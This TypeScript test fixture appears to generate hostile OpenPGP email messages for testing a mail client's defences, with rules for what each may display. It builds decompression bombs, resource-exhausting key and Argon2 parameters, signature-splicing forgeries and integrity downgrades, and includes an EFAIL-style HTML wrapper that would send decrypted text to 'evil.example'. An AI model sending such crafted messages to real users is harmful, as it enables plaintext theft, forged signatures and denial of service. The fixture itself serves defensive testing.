/** OpenPGP letters of attackers (THREATS.md, P1 to P13), each with what a reader may be shown of it at most. */
import { openpgp } from '../../electron/crypto/openpgp-config';
import { splitPackets, TAG } from '../../electron/crypto/packets';
import * as forms from './mail-forms';
import {
  armored,
  bzip2Bomb,
  compressedPacket,
  flipped,
  literalPacket,
  rawPacket,
  sealPackets,
  sealUnprotected,
  zipBomb,
} from './openpgp-parts';

/** What may be shown: nothing; the text as it was or nothing; anything, as long as it is not told as signed. */
export type Allowed = 'nothing' | 'untouched' | 'unproven';

export interface HostileLetter {
  /** Starts with the id of the row. */
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly allowed: Allowed;
  /** Whether a signature over all that is shown may be told as good. */
  readonly mayBeSigned: boolean;
}

export interface Attacked {
  readonly team: forms.Person;
  /** Her key is known. */
  readonly reporter: forms.Person;
  /** Known as well, but expired and revoked. */
  readonly expired: forms.Person;
  readonly revoked: forms.Person;
}

export const SECRET = 'exactly this';
export const FORGED = 'what Mallory wrote';
const YEAR_MS = 365 * 86_400_000;

export async function attackedPeople(): Promise<Attacked> {
  const [team, reporter] = await Promise.all([
    forms.makePerson('Security', 'security@harbour.example'),
    forms.makePerson('Rita', 'rita@reporter.example'),
  ]);
  const then = new Date(Date.now() - 2 * YEAR_MS);
  const passing = await forms.makePerson('Eve', 'eve@reporter.example', then);
  const { privateKey, publicKey } = await openpgp.reformatKey({
    privateKey: passing.privateKey,
    userIDs: [{ name: 'Eve', email: 'eve@reporter.example' }],
    date: then,
    keyExpirationTime: 86_400,
    format: 'object',
  });
  const ended = await forms.makePerson('Ron', 'ron@reporter.example', then);
  const void_ = await openpgp.revokeKey({ key: ended.privateKey, format: 'object' });
  return {
    team,
    reporter,
    expired: { ...passing, privateKey, publicKey },
    revoked: { ...ended, publicKey: void_.publicKey },
  };
}

const concat = (...parts: readonly Uint8Array[]): Uint8Array => Uint8Array.from(Buffer.concat(parts));
const whole = (armoredMessage: string): Uint8Array => forms.mail({}, forms.encryptedEntity(armoredMessage));
const inText = (armoredMessage: string): Uint8Array => forms.mail({}, forms.textEntity(armoredMessage));
const asFile = (armoredMessage: string): Uint8Array =>
  forms.mail({}, forms.multipart('mixed', [forms.fileEntity('a.txt.pgp', Buffer.from(armoredMessage))]));

async function binaryOf(armoredMessage: string): Promise<Uint8Array> {
  return (await openpgp.unarmor(armoredMessage)).data as Uint8Array; // as: nothing here is a stream
}

/** The session-key packet and the data packet of a message to one key. */
function packetsOf(binary: Uint8Array) {
  const packets = splitPackets(binary, 10);
  const [session, data] = packets.ok ? packets.value : [];
  if (session === undefined || data === undefined) throw new Error('a message of our own has two packets');
  // RFC 9580, section 4.2.1: a length of one, two or five octets
  const first = data.raw[1] ?? 0;
  const header = first < 192 ? 2 : first < 224 ? 3 : 6;
  return { session, data, body: Uint8Array.from(data.raw.subarray(header)) };
}

/** P1: one bit in every 24th byte. */
async function flips({ team, reporter }: Attacked): Promise<HostileLetter[]> {
  const sealed = await forms.seal(forms.textEntity(SECRET), { to: [team], signedBy: [reporter] });
  const binary = await binaryOf(sealed);
  const places = Array.from({ length: Math.ceil(binary.length / 24) }, (_, n) => n * 24);
  return places.map((at) => ({
    name: `P1 a bit of byte ${at} is flipped`,
    bytes: whole(armored(flipped(binary, at))),
    allowed: 'untouched',
    mayBeSigned: true,
  }));
}

/** P2: the integrity of the text is missing, cut off or taken off. */
async function unprotected({ team }: Attacked): Promise<HostileLetter[]> {
  const bare = armored(await sealUnprotected(SECRET, team.publicKey));
  const { session, body } = packetsOf(await binaryOf(await forms.seal(SECRET, { to: [team] })));
  const shorter = (by: number): string =>
    armored(concat(session.raw, rawPacket(TAG.protected, body.subarray(0, body.length - by))));
  const downgraded = armored(concat(session.raw, rawPacket(TAG.unprotected, body.subarray(1))));
  return [
    ['no integrity, as PGP/MIME', whole(bare)],
    ['no integrity, in a text', inText(bare)],
    ['no integrity, in a file', asFile(bare)],
    ['the check is cut off', whole(shorter(22))],
    ['the last byte is cut off', whole(shorter(1))],
    ['declared as a packet without a check', whole(downgraded)],
    ['declared so, in a text', inText(downgraded)],
  ].map(([what, bytes]) => nothing(`P2 ${what}`, bytes));
}

// as: the pairs above are a name and bytes
const nothing = (name: string, bytes: unknown): HostileLetter => ({
  name,
  bytes: bytes as Uint8Array,
  allowed: 'nothing',
  mayBeSigned: false,
});

/** P3, P4, P5: what unpacks to too much, asks for too much, or computes for too long. */
async function bombs({ team, reporter }: Attacked): Promise<HostileLetter[]> {
  const sealed = async (packets: Uint8Array) => armored(await sealPackets(packets, [team.publicKey]));
  let nested = literalPacket(Buffer.from(SECRET));
  for (let n = 0; n < 128; n += 1) nested = compressedPacket(0, nested);
  const hidden = packetsOf(
    await sealPackets(literalPacket(Buffer.from(SECRET)), [reporter.publicKey], { hidden: true }),
  );
  const many = (count: number): string =>
    armored(concat(...Array.from({ length: count }, () => hidden.session.raw), hidden.data.raw));
  const argon = (passes: number, memory: number): string => {
    const s2k = concat(Buffer.from([4]), Buffer.alloc(16), Buffer.from([passes, 1, memory]));
    return armored(concat(rawPacket(3, concat(Buffer.from([4, 9]), s2k)), hidden.data.raw));
  };
  return [
    nothing('P3 200 MB by ZIP', whole(await sealed(zipBomb(200)))),
    nothing('P3 135 MB by BZip2', whole(await sealed(bzip2Bomb(3)))),
    nothing('P3 2 GB by BZip2, not encrypted', inText(armored(bzip2Bomb(45)))),
    nothing('P3 a bomb in a file', asFile(await sealed(zipBomb(100)))),
    nothing('P3 packed 128 times', whole(await sealed(nested))),
    nothing('P4 10,000 session keys', whole(many(10_000))),
    nothing('P4 1,000 hidden recipients', whole(many(1_000))),
    nothing('P5 Argon2 with 1 TB', whole(argon(1, 30))),
    nothing('P5 Argon2 with 255 passes', whole(argon(255, 16))),
  ];
}

/** P6: a text beside a signed one in one message (CVE-2025-47934 and its kin). */
async function splices({ team, reporter }: Attacked): Promise<HostileLetter[]> {
  const message = await openpgp.createMessage({ binary: Buffer.from(SECRET) });
  const signed = await openpgp.sign({ message, signingKeys: reporter.privateKey, format: 'binary' });
  const list = splitPackets(signed as Uint8Array, 10); // as: nothing here is a stream
  const [onePass, text, signature] = list.ok ? list.value : [];
  if (onePass === undefined || text === undefined || signature === undefined)
    throw new Error('a signed message of our own has three packets');
  const forged = literalPacket(Buffer.from(FORGED));
  const packed = compressedPacket(0, forged);
  const mixes: readonly (readonly [string, Uint8Array])[] = [
    ['behind it', concat(signed as Uint8Array, forged)],
    ['before it', concat(forged, signed as Uint8Array)],
    ['packed, behind it', concat(signed as Uint8Array, packed)],
    ['packed, before it', concat(packed, signed as Uint8Array)],
    ['in its place', concat(onePass.raw, forged, signature.raw)],
    ['beside it, within', concat(onePass.raw, forged, text.raw, signature.raw)],
    ['beside it, within and behind', concat(onePass.raw, text.raw, forged, signature.raw)],
    ['packed, in its place', concat(onePass.raw, packed, signature.raw)],
  ];
  const letters: HostileLetter[] = [];
  for (const [where, bytes] of mixes) {
    const shown = { allowed: 'unproven', mayBeSigned: false } as const;
    const sealed = armored(await sealPackets(bytes, [team.publicKey]));
    letters.push({ name: `P6 another text ${where}`, bytes: inText(armored(bytes)), ...shown });
    letters.push({ name: `P6 another text ${where}, encrypted`, bytes: whole(sealed), ...shown });
  }
  return letters;
}

/** P8: signatures that prove nothing. */
async function signatures(people: Attacked): Promise<HostileLetter[]> {
  const entity = forms.textEntity(SECRET);
  const then = new Date(Date.now() - YEAR_MS);
  const stranger = await forms.makePerson('Nobody', 'nobody@reporter.example');
  const of = async (by: forms.Person, date?: Date) =>
    forms.mail({}, await forms.signedEntity(entity, by, date));
  const other = await forms.detached(forms.textEntity(FORGED), people.reporter);
  const good = await forms.detached(entity, people.reporter);
  const several = armored(concat(await binaryOf(good), await binaryOf(other)), 'signature');
  const unsigned = (what: string, bytes: Uint8Array): HostileLetter => ({
    name: `P8 ${what}`,
    bytes,
    allowed: 'unproven',
    mayBeSigned: false,
  });
  return [
    { ...unsigned('a good signature', await of(people.reporter)), mayBeSigned: true },
    unsigned(
      'by a key that is expired',
      await of(people.expired, new Date(Date.now() - 2 * YEAR_MS + 3_600_000)),
    ),
    unsigned('by a key that is revoked', await of(people.revoked, then)),
    unsigned('from the future', await of(people.reporter, new Date(Date.now() + YEAR_MS))),
    unsigned('by a key that is not here', await of(stranger)),
    unsigned('over another text', forms.mail({}, forms.signedWith(entity, other))),
    unsigned('one good and one bad', forms.mail({}, forms.signedWith(entity, several))),
    unsigned('no signature in its place', forms.mail({}, forms.signedWith(entity, 'nothing'))),
    unsigned(
      'the text was changed',
      Buffer.from(
        Buffer.from(forms.mail({}, forms.textEntity(await forms.clearsigned(FORGED, people.reporter))))
          .toString('latin1')
          .replace(FORGED, SECRET),
        'latin1',
      ),
    ),
  ];
}

/** P9: something stands beside what is signed. P10: what was written to others. P13: a cipher that is not AES. */
async function beside({ team, reporter }: Attacked): Promise<HostileLetter[]> {
  const forged = forms.textEntity(FORGED);
  const signed = await forms.signedEntity(forms.textEntity(SECRET), reporter);
  const sealed = await forms.seal(forms.textEntity(SECRET), { to: [team], signedBy: [reporter] });
  const encrypted = forms.encryptedEntity(sealed);
  const clear = await forms.clearsigned(SECRET, reporter);
  const partly = (name: string, entity: string): HostileLetter => ({
    name,
    bytes: forms.mail({}, entity),
    allowed: 'unproven',
    mayBeSigned: false,
  });
  const triple = { data: new Uint8Array(24).fill(7), algorithm: 'tripledes' } as const;
  return [
    partly('P9 a text before what is signed', forms.multipart('mixed', [forged, signed])),
    partly('P9 a text behind what is signed', forms.multipart('mixed', [signed, forged])),
    partly('P9 HTML around what is signed', forms.multipart('mixed', [forms.htmlEntity(FORGED), signed])),
    partly('P9 a related part beside what is signed', forms.multipart('related', [signed, forged])),
    partly(
      'P9 a file beside what is signed',
      forms.multipart('mixed', [signed, forms.fileEntity('a.txt', Buffer.from(FORGED))]),
    ),
    partly('P9 a text before a clear-signed one', forms.textEntity(`${FORGED}\n\n${clear}`)),
    partly('P9 a text behind a clear-signed one', forms.textEntity(`${clear}\n${FORGED}`)),
    partly(
      'P9 a text around what is encrypted and signed',
      forms.multipart('mixed', [forged, encrypted, forged]),
    ),
    partly(
      'P9 HTML that would catch the text',
      forms.multipart('mixed', [
        forms.htmlEntity('<img src="http://evil.example/'),
        encrypted,
        forms.htmlEntity('">'),
      ]),
    ),
    partly('P9 a text before inline armor', forms.textEntity(`${FORGED}\n${sealed}`)),
    {
      name: 'P10 what Rita signed for others, encrypted anew',
      bytes: whole(await forms.seal(signed, { to: [team] })),
      allowed: 'unproven',
      mayBeSigned: true,
    },
    nothing(
      'P13 Triple DES',
      whole(
        armored(
          await sealPackets(literalPacket(Buffer.from(SECRET)), [team.publicKey], { sessionKey: triple }),
        ),
      ),
    ),
  ];
}

/** Every letter, under its name. */
export async function hostileLetters(people: Attacked): Promise<HostileLetter[]> {
  const groups = [flips, unprotected, bombs, splices, signatures, beside];
  const letters: HostileLetter[] = [];
  for (const make of groups) letters.push(...(await make(people)));
  return letters;
}

/** What can be seen of a letter, from the parser or from the window. */
export interface Seen {
  readonly texts: readonly string[];
  readonly signature: string;
  readonly covers: string | null;
}

/** Why a letter shows more than it may; null when it does not. */
export function overstepped({ allowed, mayBeSigned }: HostileLetter, seen: Seen): string | null {
  const shown = seen.texts.join('\n').trim();
  const saysSigned = seen.signature === 'good' && seen.covers === 'all';
  if (saysSigned && !mayBeSigned) return 'it is told as signed';
  if (saysSigned && shown !== SECRET) return 'another text is told as signed';
  if (allowed === 'nothing' && (shown.includes(SECRET) || shown.includes(FORGED))) return 'its text is shown';
  return allowed === 'untouched' && shown !== '' && shown !== SECRET ? 'a changed text is shown' : null;
}
